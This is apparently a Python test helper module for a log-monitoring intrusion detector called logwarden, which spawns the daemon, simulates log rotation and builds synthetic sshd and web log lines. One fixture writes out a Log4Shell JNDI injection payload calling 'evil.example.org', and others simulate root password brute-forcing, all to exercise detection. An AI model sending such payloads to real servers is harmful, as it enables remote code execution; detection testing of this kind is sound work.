"""Shared setup for the daemon tests: a real `logwarden watch` subprocess, realistic attack
lines, and read-only views of its state database (polled with generous deadlines, never timed)."""

from __future__ import annotations

import gzip
import json
import logging
import os
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Callable
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any

from detector.state.readonly import query_read_only

LOGWARDEN = str(Path(sys.executable).with_name("logwarden"))
DEADLINE = 60.0  # seconds: generous, the tests poll for a condition and never measure time
T0 = datetime(2026, 11, 21, 8, 0, 0, tzinfo=timezone.utc)


def wait_for(condition: Callable[[], Any], what: str, timeout: float = DEADLINE, every: float = 0.05) -> Any:
    """Poll `condition` until it returns something truthy; fail with `what` after `timeout`."""
    end = time.monotonic() + timeout
    while True:
        value = condition()
        if value:
            return value
        if time.monotonic() > end:
            raise AssertionError(f"timed out waiting for {what}")
        time.sleep(every)


# -- log lines ---------------------------------------------------------------------------------


def _iso(ts: datetime) -> str:
    return ts.strftime("%Y-%m-%dT%H:%M:%S.%f+00:00")


def auth_benign(i: int, at: datetime | None = None) -> str:
    ts = at or T0 + timedelta(seconds=i)
    return (f"{_iso(ts)} bastion sshd[{1000 + i % 5000}]: Accepted publickey for deploy from "
            f"10.0.{i % 200}.{i % 250 + 1} port {30000 + i % 20000} ssh2: ED25519 SHA256:AbCdEf{i}")


def auth_quiet(i: int, at: datetime | None = None) -> str:
    """A benign sshd line no rule reads (cheap filler for large logs)."""
    ts = at or T0 + timedelta(seconds=i)
    return (f"{_iso(ts)} bastion sshd[{1000 + i % 5000}]: Received disconnect from 10.0.{i % 200}.{i % 250 + 1} "
            f"port {30000 + i % 20000}:11: disconnected by user")


def auth_failure(ip: str, j: int, at: datetime) -> str:
    return (f"{_iso(at)} bastion sshd[{9000 + j}]: Failed password for root from {ip} "
            f"port {40000 + j} ssh2")


def burst(ip: str, first: int, count: int, at_second: int) -> list[str]:
    """Failed logins `first`..`first+count-1` of `ip`, one a second from T0 + at_second."""
    return [auth_failure(ip, k, T0 + timedelta(seconds=at_second + k)) for k in range(first, first + count)]


def access_benign(i: int, at: datetime | None = None) -> str:
    ts = (at or T0 + timedelta(seconds=i)).strftime("%d/%b/%Y:%H:%M:%S +0000")
    return (f'198.51.100.{i % 250 + 1} - - [{ts}] "GET /shop/item/{i}?ref=home HTTP/1.1" 200 {512 + i} '
            f'"https://shop.example.com/" "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"')


def access_log4shell(ip: str, at: datetime) -> str:
    ts = at.strftime("%d/%b/%Y:%H:%M:%S +0000")
    return (f'{ip} - - [{ts}] "GET /search?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example.org%2Fa%7D HTTP/1.1" 200 9 '
            f'"-" "${{jndi:ldap://evil.example.org/x}}"')


def append(path: Path, lines: list[str]) -> None:
    with open(path, "a", encoding="utf-8") as handle:
        handle.write("".join(line + "\n" for line in lines))


def rotate_through_copy_dateext_and_olddir(logs: Path, write: Callable[[Path, list[str]], None]) -> None:
    """logrotate `copy`, then `dateext` (rename), then `olddir` with copytruncate, each with
    lines written just before it that the daemon may not have read yet."""
    auth, access = logs / "auth.log", logs / "access.log"
    write(auth, [auth_benign(i) for i in range(10)] + [auth_failure("203.0.113.170", j, T0 + timedelta(seconds=20 + j)) for j in range(3)])
    shutil.copyfile(auth, logs / "auth.log.1")  # `copy`: the live file is not truncated
    write(auth, [auth_failure("203.0.113.170", j, T0 + timedelta(seconds=22 + j)) for j in range(3, 7)])
    write(access, [access_benign(i) for i in range(10)] + [access_log4shell("203.0.113.171", T0)])
    os.rename(access, logs / "access.log-20261121")  # `dateext`
    write(access, [access_log4shell("203.0.113.172", T0 + timedelta(minutes=1))])
    (logs / "old").mkdir()
    write(auth, [auth_failure("203.0.113.173", j, T0 + timedelta(seconds=300 + j)) for j in range(3)])
    shutil.copyfile(auth, logs / "old" / "auth.log.2")  # `olddir old` + `copytruncate`
    os.truncate(auth, 0)
    write(auth, [auth_failure("203.0.113.173", j, T0 + timedelta(seconds=302 + j)) for j in range(3, 7)])
    with open(logs / "old" / "auth.log.2", "rb") as plain, gzip.open(logs / "old" / "auth.log.2.gz", "wb") as out:
        shutil.copyfileobj(plain, out)
    os.remove(logs / "old" / "auth.log.2")


# -- the state database, read-only ----------------------------------------------------------


def bastion_config(tmp_path: Path, source: str | Path) -> Path:
    """A `logwarden.yaml` in `tmp_path`: the state beside it, one application reading `source`
    (a path or a glob) as an auth log."""
    config = tmp_path / "logwarden.yaml"
    config.write_text(
        f"state: {tmp_path / 'state.db'}\napplications:\n  - name: bastion\n    owner: ops\n"
        f"    sources:\n      - {{path: '{source}', kind: auth}}\n"
    )
    return config


def query(state: Path, sql: str, params: tuple = ()) -> list[tuple]:
    """Read the daemon's state without writing to it (WAL: readers never block the writer)."""
    return query_read_only(state, sql, params)


def lines_ingested(state: Path) -> int:
    rows = query(state, "SELECT COALESCE(SUM(lines), 0) FROM ingest_log")
    return int(rows[0][0]) if rows else 0


def findings(state: Path) -> list[dict[str, Any]]:
    return [json.loads(r[0]) for r in query(state, "SELECT data FROM findings ORDER BY first_seen, id")]


def comparable(finding: dict[str, Any]) -> tuple:
    """What must be identical between the daemon and a cron scan of the same bytes: everything
    but wall-clock times and file names (rotation renames files after the daemon read them)."""
    return (
        finding["id"], finding["scenario_id"], json.dumps(finding["entity"], sort_keys=True),
        finding["count"], finding["first_seen"], finding["last_seen"], finding["severity"],
        finding["confidence"], tuple(finding["attack"]), tuple(finding["log_kinds"]),
        tuple((e["offset"], e["line"], e["timestamp"]) for e in finding["evidence"]),
    )


def ranges_by_file(state: Path) -> dict[str, list[tuple[int, int, int]]]:
    out: dict[str, list[tuple[int, int, int]]] = {}
    for uid, start, end, lines in query(
        state, "SELECT file_uid, start_offset, end_offset, lines FROM ingest_log ORDER BY file_uid, start_offset"
    ):
        out.setdefault(uid, []).append((start, end, lines))
    return out


def assert_contiguous(state: Path) -> None:
    """Each file's committed batches follow each other exactly: nothing read twice, no hole."""
    for uid, ranges in ranges_by_file(state).items():
        position = 0
        for start, end, _ in ranges:
            assert start == position, f"file {uid}: hole or overlap at byte {position} (next batch at {start})"
            position = end


def scan_findings(paths: list[Path], state: Path, *extra: str) -> dict[str, Any]:
    done = subprocess.run(
        [LOGWARDEN, "scan", *map(str, paths), "--state", str(state), "--format", "json", *extra],
        capture_output=True, text=True, timeout=120,
    )
    assert done.returncode in (0, 3), done.stderr
    return json.loads(done.stdout)


# -- the daemon ------------------------------------------------------------------------------


class BundledLoader:
    """For in-process daemons: the bundled checklist, no escalation."""

    def __init__(self, state: Path) -> None:
        from detector.config import Config

        self.config = Config(path=None, state=state, checklist=None, escalation=None, timezone="UTC")

    def load_config(self) -> Any:
        return self.config

    def load_engine(self, config: Any) -> Any:
        from detector.detection.engine import load_engine

        return load_engine(config.checklist)

    def open_escalator(self, store: Any, config: Any) -> None:
        return None


def memory_logger(name: str, stream: Any) -> logging.Logger:
    """A logger writing the daemon's text lines into `stream` (an io.StringIO)."""
    from detector.daemon.log import TextFormatter

    logger = logging.getLogger(name)
    handler = logging.StreamHandler(stream)
    handler.setFormatter(TextFormatter())
    logger.handlers[:] = [handler]
    logger.propagate = False
    logger.setLevel(logging.INFO)
    return logger


class Watcher:
    """A `logwarden watch` subprocess; stderr (structured log lines) goes to a file."""

    def __init__(self, tmp_path: Path, args: list[str], state: Path | None = None, name: str = "watch") -> None:
        self.state = state or tmp_path / "state" / "state.db"
        self.log_path = tmp_path / f"{name}.stderr.log"
        self.args = [LOGWARDEN, "watch", *args]
        if "--state" not in args and "-c" not in args and "--config" not in args:
            self.args += ["--state", str(self.state)]
        self.stdout_path = tmp_path / f"{name}.stdout.log"  # the stdout channel prints there
        self._stderr = open(self.log_path, "ab")  # noqa: SIM115 - closed in stop()
        self._stdout = open(self.stdout_path, "ab")  # noqa: SIM115 - closed in stop()
        self._offset = self.log_path.stat().st_size
        self.proc = subprocess.Popen(self.args, stdout=self._stdout, stderr=self._stderr)
        self.wait_log("event=started")

    def log(self) -> str:
        return self.log_path.read_text(errors="replace")[self._offset:]

    def log_lines(self, event: str) -> list[str]:
        return [line for line in self.log().splitlines() if f"event={event}" in line.split()]

    def wait_log(self, needle: str, timeout: float = DEADLINE, count: int = 1) -> str:
        def found() -> str | None:
            if self.proc.poll() is not None:
                raise AssertionError(f"logwarden watch exited with {self.proc.returncode}:\n{self.log()}")
            text = self.log()
            return text if text.count(needle) >= count else None

        return wait_for(found, f"{needle!r} in the daemon's log", timeout)

    def send(self, sig: int) -> None:
        self.proc.send_signal(sig)

    def stop(self, sig: int = signal.SIGTERM, timeout: float = DEADLINE) -> int:
        if self.proc.poll() is None:
            self.proc.send_signal(sig)
        try:
            code = self.proc.wait(timeout=timeout)
        finally:
            if self.proc.poll() is None:
                self.proc.kill()
                self.proc.wait()
            self._stderr.close()
            self._stdout.close()
        return code

    def __enter__(self) -> "Watcher":
        return self

    def __exit__(self, *exc: object) -> None:
        if self.proc.poll() is None:
            self.stop()
        elif not self._stderr.closed:
            self._stderr.close()
            self._stdout.close()


def wait_ingested(state: Path, total: int, watcher: Watcher | None = None) -> None:
    def done() -> bool:
        if watcher is not None and watcher.proc.poll() is not None:
            raise AssertionError(f"logwarden watch exited:\n{watcher.log()}")
        return lines_ingested(state) >= total

    wait_for(done, f"{total} lines committed by the daemon")
    assert lines_ingested(state) == total, "the daemon committed more lines than were written"


def metrics_address(watcher: Watcher) -> str:
    text = watcher.wait_log("metrics=http://")
    return text.split("metrics=http://", 1)[1].split("/metrics", 1)[0]


__all__ = [
    "LOGWARDEN", "T0", "BundledLoader", "Watcher", "memory_logger", "access_benign", "access_log4shell", "append", "assert_contiguous",
    "auth_benign", "auth_failure", "auth_quiet", "comparable", "findings", "lines_ingested", "metrics_address",
    "query", "ranges_by_file", "rotate_through_copy_dateext_and_olddir", "scan_findings", "wait_for", "wait_ingested",
]
